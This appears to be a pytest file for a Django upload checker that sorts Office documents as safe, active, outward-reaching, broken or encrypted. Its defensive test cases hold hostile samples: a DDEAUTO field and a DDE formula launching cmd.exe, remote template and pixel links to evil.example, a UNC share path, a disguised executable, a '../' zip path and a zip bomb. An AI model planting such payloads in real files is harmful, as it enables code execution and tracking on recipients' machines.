"""Which Office files are let in: each attack is a file as it would be sent."""

import io
import time
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from matchmaker.core import office
from matchmaker.core.files import check_file
from matchmaker.core.office_inspection import judge

TYPE = "application/vnd.openxmlformats-officedocument."
KINDS = {
    "docx": ("word/document.xml", f"{TYPE}wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{TYPE}spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{TYPE}presentationml.presentation.main+xml"),
}
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def package(kind="docx", body="<document/>", declared="", extra=(), **how) -> bytes:
    """A package of a kind with a main part; `extra` are (name, content) of further parts."""
    main, content_type = KINDS[kind]
    types = f'<Types><Override PartName="/{main}" ContentType="{declared or content_type}"/></Types>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **how) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(main, body)
        for name, content in extra:
            archive.writestr(name, content)
    return out.getvalue()


def relation(kind: str, target: str, mode: str = "External") -> tuple[str, str]:
    row = f'<Relationship Id="r1" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return "word/_rels/document.xml.rels", f"<Relationships>{row}</Relationships>"


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:document xmlns:w="w"><w:fldChar/>{runs}<w:fldChar/></w:document>'


def formula(text: str) -> str:
    return f"<worksheet><sheetData><c><f>{text}</f></c></sheetData></worksheet>"


def workbook() -> bytes:
    book = Workbook()
    book.active.append(["Rice", 950, "=B1*20"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize("kind", KINDS)
def test_a_quiet_file_is_known_by_its_content(kind):
    assert judge(package(kind)) == kind


def test_a_workbook_with_formulas_is_let_in_and_stays_as_it_is():
    content = workbook()
    checked = check_file(SimpleUploadedFile("price list.pdf", content), with_office=True)
    assert (checked.name, checked.suffix, checked.content) == ("price list.xlsx", ".xlsx", content)
    assert checked.content_type == f"{TYPE}spreadsheetml.sheet"


def test_it_is_refused_where_only_pdf_and_pictures_are_taken():
    with pytest.raises(ValidationError) as caught:
        check_file(SimpleUploadedFile("a.xlsx", workbook()))
    assert caught.value.error_dict["files"][0].code == "type_mismatch"


@pytest.mark.parametrize(
    ("content", "verdict"),
    [
        (package(extra=[("word/vbaProject.bin", b"x")]), "active"),
        (package(declared="application/vnd.ms-word.document.macroEnabled.main+xml"), "active"),
        (package(extra=[("word/embeddings/oleObject1.bin", b"x")]), "active"),
        (package(extra=[("word/embeddings/book.xml", "<a/>")]), "active"),
        (package(extra=[("word/activeX/activeX1.xml", "<a/>")]), "active"),
        (package("xlsx", extra=[("xl/macrosheets/sheet1.xml", "<a/>")]), "active"),
        (package("xlsx", extra=[("xl/externalLinks/externalLink1.xml", "<a/>")]), "active"),
        (package(extra=[("customUI/customUI.xml", "<a/>")]), "active"),
        (package(extra=[("word/media/image1.png", b"MZ\x90")]), "active"),
        (package(extra=[("word/media/run.exe", b"MZ")]), "active"),
        (package(extra=[relation("oleObject", "x.bin", "Internal")]), "active"),
        (package(extra=[relation("subDocument", "x.docx", "Internal")]), "active"),
        (package(extra=[relation("attachedTemplate", "https://evil.example/t.dotm")]), "outside"),
        (package(extra=[relation("image", "https://evil.example/pixel.png")]), "outside"),
        (package(extra=[relation("hyperlink", "file://server/share/a.exe")]), "outside"),
        (package(extra=[relation("hyperlink", "\\\\server\\share")]), "outside"),
        (package(extra=[relation("hyperlink", "https://example.org/")]), "docx"),
        (package(extra=[relation("hyperlink", "mailto:a@example.org")]), "docx"),
        (package(body=field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')), "active"),
        (package(body=field("DD", "EAUTO cmd")), "active"),
        (package(body='<w:p xmlns:w="w"><w:fldSimple w:instr="INCLUDEPICTURE http://x"/></w:p>'), "active"),
        (package(body=field("PAGE")), "docx"),
        (package("xlsx", extra=[("xl/worksheets/sheet1.xml", formula("WEBSERVICE(A1)"))]), "active"),
        (package("xlsx", extra=[("xl/worksheets/sheet1.xml", formula("cmd|'/c calc'!A0"))]), "active"),
        (package("xlsx", extra=[("xl/worksheets/sheet1.xml", formula("SUM(A1:A9)"))]), "xlsx"),
        (package("pptx", extra=[("ppt/slides/slide1.xml", '<a action="ppaction://program"/>')]), "active"),
        (package("pptx", extra=[("ppt/slides/slide1.xml", '<a action="ppaction://hlinksldjump"/>')]), "pptx"),
        (package("xlsx", extra=[("xl/drawings/v.vml", '<v:imagedata src="http://x/a.png">')]), "outside"),
        (package("xlsx", extra=[("xl/printerSettings/printerSettings1.bin", b"x")]), "xlsx"),
        (package(body='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "broken"),
        (package(body="<a>"), "broken"),
        (package(extra=[("../evil.xml", "<a/>")]), "broken"),
        (package(extra=[("WORD/DOCUMENT.XML", "<a/>")]), "broken"),
        (package(declared="text/plain"), "broken"),
        (package() + b"MZ", "broken"),
        (b"MZ" + package(), "broken"),
        (package()[:-40], "broken"),
        (b"PK\x03\x04", "broken"),
        (office_old := b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "broken"),
        (office_old + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    ],
)
def test_what_acts_or_reaches_out_is_refused(content, verdict):
    assert judge(content) == verdict


def test_a_package_that_unpacks_to_much_more_is_refused_in_bounded_time():
    started = time.monotonic()
    bomb = package(extra=[(f"word/media/image{n}.png", b"\0" * 20_000_000) for n in range(9)])
    assert (office.inspect_office(bomb), len(bomb) < 1_000_000) == ("large", True)
    assert time.monotonic() - started < 20


def test_sizes_that_the_directory_understates_do_not_help():
    content = package(extra=[("word/media/image1.png", b"\0" * 160_000_000)])
    real, false = (160_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little")
    assert judge(content.replace(real, false)) in ("large", "broken")


def test_the_process_says_the_same_as_the_function():
    assert (office.inspect_office(workbook()), office.inspect_office(package() + b"x")) == ("xlsx", "broken")
